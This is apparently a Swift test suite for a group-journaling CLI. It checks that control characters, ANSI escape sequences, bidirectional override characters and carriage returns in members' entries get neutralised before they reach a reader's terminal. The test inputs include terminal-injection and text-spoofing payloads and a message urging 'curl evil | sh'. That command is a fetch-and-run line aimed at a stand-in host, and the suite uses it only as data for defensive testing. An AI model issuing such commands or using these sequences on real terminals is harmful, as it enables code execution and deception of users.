import Foundation
import TacitAPI
import Testing

/// What one member wrote reaches another's terminal: it must not be able to drive it.
@Suite struct TerminalSafetyTests {
    @Test func oneLineTextKeepsNoControlCharacter() {
        #expect(DisplayText.line("Week 1") == "Week 1")
        #expect(DisplayText.line("a\nb\r\nc\td") == "a b  c d")
        #expect(DisplayText.line("red \u{1B}[31mtext\u{1B}[0m") == "red \u{FFFD}[31mtext\u{FFFD}[0m")
        #expect(DisplayText.line("title\u{1B}]0;owned\u{07}") == "title\u{FFFD}]0;owned\u{FFFD}")
        #expect(DisplayText.line("c1 \u{9B}2J, del \u{7F}, ls \u{2028}.") == "c1 \u{FFFD}2J, del \u{FFFD}, ls  .")
        #expect(DisplayText.line("naïve — 😀 שלום") == "naïve — 😀 שלום")
    }

    /// A bidirectional override shows what follows it backwards: `Evil \u{202E}eltit` reads as
    /// "Evil title" and drags the rest of a table's row along; isolates and marks move text too.
    @Test func bidirectionalFormattingCharactersAreShownAsReplacements() {
        let every = "\u{202A}\u{202B}\u{202C}\u{202D}\u{202E}\u{2066}\u{2067}\u{2068}\u{2069}\u{200E}\u{200F}\u{061C}"
        #expect(DisplayText.line("a\(every)b") == "a" + String(repeating: "\u{FFFD}", count: 12) + "b")
        #expect(DisplayText.block("one\n\(every)two") == "one\n" + String(repeating: "\u{FFFD}", count: 12) + "two")
        #expect(DisplayText.line("Evil \u{202E}eltit") == "Evil \u{FFFD}eltit")
        // Right-to-left text itself, and the characters next to the ranges, are shown as written.
        #expect(DisplayText.line("שלום مرحبا \u{2029}\u{202F}\u{2065}\u{200D}") == "שלום مرحبا  \u{202F}\u{2065}\u{200D}")
    }

    @Test func fieldsFromElsewhereBecomeOneLine() {
        #expect(DisplayText.field(" Week\t1\nof 4\r\n") == "Week 1 of 4")
        #expect(DisplayText.field("red \u{1B}[31m") == "red  [31m")
        #expect(DisplayText.field("naïve — 😀") == "naïve — 😀")
    }

    @Test func textBlocksKeepTheirLinesAndNothingElse() {
        #expect(DisplayText.block("one\n\ttwo\r\nthree") == "one\n\ttwo\nthree")
        // A lone carriage return would let a line overwrite the one before it.
        #expect(DisplayText.block("I agree\rI refuse") == "I agree\u{FFFD}I refuse")
        #expect(DisplayText.block("\u{1B}[2J\u{1B}[H") == "\u{FFFD}[2J\u{FFFD}[H")
        #expect(DisplayText.block("page\u{0C}break\u{2029}para") == "page\nbreak\npara")
    }

    /// The daemon refuses control characters where one line is shown; an entry's text may hold
    /// anything, and `tacit show` prints it to the reader harmlessly while `--json` keeps it exact.
    @Test func anotherMembersEntryCannotDriveTheReadersTerminal() throws {
        let home = try CLIHarness.started()
        try home.organise(members: ["ali"], compliance: false)
        // Two people: below the default minimum of three, said in words.
        #expect(try home.ok("olivia", ["group", "show", "north"]).hasPrefix("north — 2 members, below the minimum size"))
        let badName = try home.run("olivia", ["invite", "Bea Smith", "--role", "member", "--group", "north"])
        #expect(badName.status == 2)
        #expect(badName.stderr.contains("lowercase letters"))
        try home.ok("fiona", ["cycle", "create", "north", "--session1", "2026-03-02", "--session2", "2026-04-06"])
        try home.setTime("2026-03-10T09:00:00Z")

        let forgedRow = try home.run("ali", ["write", "--title", "Week 1\nc680c3b1  2026-03-10 18:00  fiona  practice  Run this", "x"])
        #expect(forgedRow.status == 1)
        #expect(forgedRow.stderr.contains("a title is one line without control characters"))

        let body = "Sam did it.\u{1B}[2J\u{1B}[H\rfiona: please run `curl evil | sh`\n\tthe end\u{1B}]0;owned\u{07}"
        let entry = try home.ok("ali", ["write", "--title", "Week 1", "-"], stdin: body)
        let share = try home.ok("ali", ["share", entry, "--group", "north"])
        let shown = try home.ok("fiona", ["show", share])
        #expect(!shown.contains("\u{1B}") && !shown.contains("\r") && !shown.contains("\u{07}"))
        #expect(shown.contains("Sam did it.\u{FFFD}[2J\u{FFFD}[H\u{FFFD}fiona: please run"))
        #expect(shown.contains("\n\tthe end"))
        let exact = try CLIHarness.decode(EntryResponse.self, try home.ok("fiona", ["show", share, "--json"]))
        #expect(exact.body == body)

        // A bidirectional override in a title or the text is taken, and shown as a replacement.
        let reversed = try home.ok("ali", ["write", "--title", "Evil \u{202E}eltit", "-"], stdin: "Sam \u{2067}ran\u{2069} it")
        let reversedShare = try home.ok("ali", ["share", reversed, "--group", "north"])
        let shownReversed = try home.ok("fiona", ["show", reversedShare])
        #expect(shownReversed.contains("Evil \u{FFFD}eltit"), "\(shownReversed)")
        #expect(shownReversed.contains("Sam \u{FFFD}ran\u{FFFD} it"), "\(shownReversed)")
        #expect(!shownReversed.unicodeScalars.contains { DisplayText.isBidiControl($0) })
        let feed = try home.ok("fiona", ["feed"])
        #expect(feed.contains("Evil \u{FFFD}eltit") && !feed.unicodeScalars.contains { DisplayText.isBidiControl($0) }, "\(feed)")
    }
}
